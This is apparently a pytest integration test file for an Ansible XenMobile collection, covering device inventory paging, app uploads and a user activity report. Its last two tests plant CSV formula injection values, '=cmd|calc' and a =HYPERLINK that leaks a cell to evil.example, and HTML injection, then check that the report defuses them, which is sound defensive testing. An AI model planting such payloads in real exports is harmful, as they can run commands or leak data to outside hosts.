"""Device and app inventory, enterprise app uploads and the user activity report, through real
ansible-playbook runs against the simulator."""

import csv
import datetime
import html
import io
import re

from tests.integration.xenmobile.support import FORMULA, csv_problems, plant_formula_device, xenmobile, xm_env
from tests.simulator.services.xenmobile import seeding as xenmobile_seed

DEVICE_INFO = 'opencitrix.automation.xenmobile_device_info'
APP = 'opencitrix.automation.xenmobile_app'
APP_INFO = 'opencitrix.automation.xenmobile_app_info'


def play(*tasks):
    return [{'name': 'xenmobile', 'hosts': 'targets', 'gather_facts': False, 'tasks': list(tasks)}]


def task(title, module, **args):
    keywords = dict((k, args.pop(k)) for k in ('check_mode', 'diff', 'ignore_errors') if k in args)
    return dict({'name': title, module: args}, **keywords)


def test_device_inventory_of_1050_devices_at_page_size_100(make_sim, run_playbook):
    sim = make_sim(config={'xenmobile': {'devices': 1050}})
    run = run_playbook(play(
        task('endpoint management path', DEVICE_INFO, api='endpoint_management', page_size=100),
        task('legacy path', DEVICE_INFO),
        task('too large a page', DEVICE_INFO, api='endpoint_management', page_size=500, ignore_errors=True),
    ), env=xm_env(sim), check=True)
    assert run.rc == 0, run
    assert sim.stats.count(route='xenmobile.device_filter_em') == 11
    assert sim.stats.count(route='xenmobile.device_filter') == 2
    assert sim.stats.writes() == 0
    devices = run.task('endpoint management path')['result']['devices']
    assert run.task('endpoint management path')['result']['count'] == len(devices) == 1050
    assert len(set(d['id'] for d in devices)) == 1050
    truth = dict((d['id'], d) for d in xenmobile(sim).instance().devices)
    for device in devices[:50]:
        seen = truth[device['id']]['_last']
        expected = seen.replace(second=0, microsecond=0).isoformat() if seen else None
        assert device['last_access_iso'] == expected
        assert device['user'] == truth[device['id']]['userName'].split(' ')[0]
        assert device['platform'] and device['os_version'] and 'properties' not in device
    assert run.task('legacy path')['result']['count'] == 1050
    refused = run.task('too large a page')['result']
    assert 'page_size 500' in refused['msg'] and '1 to 100' in refused['msg']


def test_enterprise_app_upload_is_idempotent_by_name_and_version(sim, run_playbook, tmp_path):
    package = tmp_path / 'Scanner.ipa'
    older = tmp_path / 'Scanner-old.ipa'
    package.write_bytes(xenmobile_seed.build_package('ios', '1.1.0', 'Scanner'))
    older.write_bytes(xenmobile_seed.build_package('ios', '1.0.0', 'Scanner'))
    apk = tmp_path / 'Scanner.apk'
    apk.write_bytes(xenmobile_seed.build_package('android', '1.1.0'))
    common = dict(name='Scanner', description='Barcode scanner', categories=['Tools'],
                  deployment={'deploy_schedule': 'NOW', 'deploy_in_background': True})
    run = run_playbook(play(
        task('plan create', APP, platform='ios', file=str(older), version='1.0.0', check_mode=True, **common),
        task('create', APP, platform='ios', file=str(older), version='1.0.0', **common),
        task('create again', APP, platform='ios', file=str(older), version='1.0.0', **common),
        task('plan upgrade', APP, platform='ios', file=str(package), version='1.1.0', check_mode=True, diff=True,
             **common),
        task('upgrade', APP, platform='ios', file=str(package), version='1.1.0', **common),
        task('add android', APP, platform='android', file=str(apk), version='1.1.0', **common),
        task('add android again', APP, platform='android', file=str(apk), version='1.1.0', **common),
        task('wrong version claimed', APP, platform='ios', file=str(older), version='9.9.9', **common),
        task('read', APP_INFO, name=['Scanner'], details=True),
        task('MDX app', APP, name='Secure Mail', platform='ios', file=str(package), ignore_errors=True),
        task('missing file', APP, name='Other', platform='ios', file=str(tmp_path / 'nope.ipa'), ignore_errors=True),
        task('plan delete', APP, name='Scanner', state='absent', check_mode=True),
        task('delete', APP, name='Scanner', state='absent'),
        task('delete again', APP, name='Scanner', state='absent'),
    ), env=xm_env(sim))
    assert run.rc == 0, run
    actions = dict((r['task'], r['result'].get('action')) for r in run.results if r['status'] == 'ok')
    assert actions == {'plan create': 'created', 'create': 'created', 'create again': 'none',
                       'plan upgrade': 'upgraded', 'upgrade': 'upgraded', 'add android': 'platform_added',
                       'add android again': 'none', 'wrong version claimed': 'upgraded', 'read': None,
                       'plan delete': 'deleted', 'delete': 'deleted', 'delete again': 'none'}
    assert xenmobile(sim).writes('default') == ['Scanner/ios', 'Scanner/ios', 'Scanner/android', 'Scanner/ios',
                                                'Scanner']
    upgrade = run.task('plan upgrade')['result']
    assert upgrade['diff']['before']['versions'] == {'ios': '1.0.0'}
    assert upgrade['diff']['after']['versions'] == {'ios': '1.1.0'}
    assert any('reports version 1.0.0' in w and 'upload it again' in w
               for w in run.task('wrong version claimed')['result'].get('warnings', []))
    app = run.task('read')['result']['apps'][0]
    assert app['versions'] == {'ios': '1.0.0', 'android': '1.1.0'}
    assert app['categories'] == ['Tools'] and app['schedule']['deploy_in_background'] is True
    assert 'icon_data' not in app
    assert 'enterprise apps only' in run.task('MDX app')['result']['msg']
    assert 'nope.ipa does not exist' in run.task('missing file')['result']['msg']
    assert not any(a['name'] == 'Scanner' for a in xenmobile(sim).instance().apps.values())


def expected_activity(devices, today):
    """Ground truth from the simulator's own records, independent of the client's parsing."""
    last = {}
    for device in devices:
        user = device['userName'].split(' ')[0]
        if user:
            last[user] = max([t for t in (last.get(user), device['_last']) if t], default=None)
    idle = dict((u, (today - t.date()).days if t else None) for u, t in last.items())
    return last, idle


def test_user_activity_report(sim, run_playbook, tmp_path):
    devices = xenmobile(sim).instance().devices
    devices[0]['userName'] = '=cmd|calc@acme.com "<b>Evil</b>, \\"quoted\\""'  # CSV and HTML injection
    today = datetime.date.today()
    dest = tmp_path / 'report'
    run = run_playbook([{'name': 'report', 'hosts': 'targets', 'gather_facts': False,
                         'roles': [{'role': 'opencitrix.automation.xenmobile_user_activity',
                                    'vars': {'xenmobile_user_activity_dest': str(dest),
                                             'xenmobile_user_activity_api': 'endpoint_management'}}]}],
                       env=xm_env(sim))
    assert run.rc == 0, run
    report = run.task('opencitrix.automation.xenmobile_user_activity : Show the summary')['result'][
        'xenmobile_user_activity_report']
    last, idle = expected_activity(devices, today)
    summary = report['summary']
    assert summary['devices'] == 1000 and summary['users'] == len(last)
    assert summary['active_last_7_days'] == sum(1 for d in idle.values() if d is not None and d < 7)
    assert summary['never_seen'] == sum(1 for d in idle.values() if d is None)
    assert sim.stats.count(route='xenmobile.device_filter_em') == 10

    with open(report['csv'], newline='') as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == len(last)
    by_user = dict((r['user'], r) for r in rows)
    for user, days in list(idle.items())[1:40]:
        assert by_user[user]['days_since_last_access'] == ('' if days is None else str(days))
    evil = [r for r in rows if 'calc@acme.com' in r['user']][0]
    assert evil['user'] == "'=cmd|calc@acme.com"  # defused for spreadsheets, parsed back intact by csv

    page = open(report['html']).read()
    assert '<script' not in page.lower() and 'http://' not in page.replace('http://www.w3.org/2000/svg', '')
    assert '<b>Evil</b>' not in page and html.escape('<b>Evil</b>') in page
    bars = re.findall(r'<rect [^>]*><title>(\d{4}-\d{2}-\d{2}): (\d+) users</title>', page)
    assert len(bars) == 30 and bars[-1][0] == today.isoformat()
    per_day = {}
    for seen in last.values():
        if seen:
            per_day[seen.date().isoformat()] = per_day.get(seen.date().isoformat(), 0) + 1
    assert all(int(count) == per_day.get(day, 0) for day, count in bars)


def test_user_activity_csv_neutralises_a_formula_after_a_line_break(sim, run_playbook, tmp_path):
    """A device owner and platform holding a line break and then =HYPERLINK(...): the CSV quotes the
    multi-line values and prefixes the formula with ', so no row starts with it and a spreadsheet shows
    the text; parsed back, the cells hold that neutralised text."""
    plant_formula_device(sim)
    run = run_playbook([{'name': 'report', 'hosts': 'targets', 'gather_facts': False,
                         'roles': [{'role': 'opencitrix.automation.xenmobile_user_activity',
                                    'vars': {'xenmobile_user_activity_dest': str(tmp_path / 'report')}}]}],
                       env=xm_env(sim))
    assert run.rc == 0, run
    report = run.task('opencitrix.automation.xenmobile_user_activity : Show the summary')['result'][
        'xenmobile_user_activity_report']
    with open(report['csv'], newline='') as handle:
        text = handle.read()
    assert csv_problems(text) == []
    rows = list(csv.reader(io.StringIO(text, newline='')))
    assert not [row for row in rows if row[0].startswith('=')]
    [evil] = [row for row in rows if row[0].startswith('eve@acme.com')]
    assert evil[0] == "eve@acme.com\n'" + FORMULA and evil[3].startswith("iOS\n'" + FORMULA)
    assert '"eve@acme.com\n\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Open report"")"' in text
    assert len(rows) == 1 + report['summary']['users']
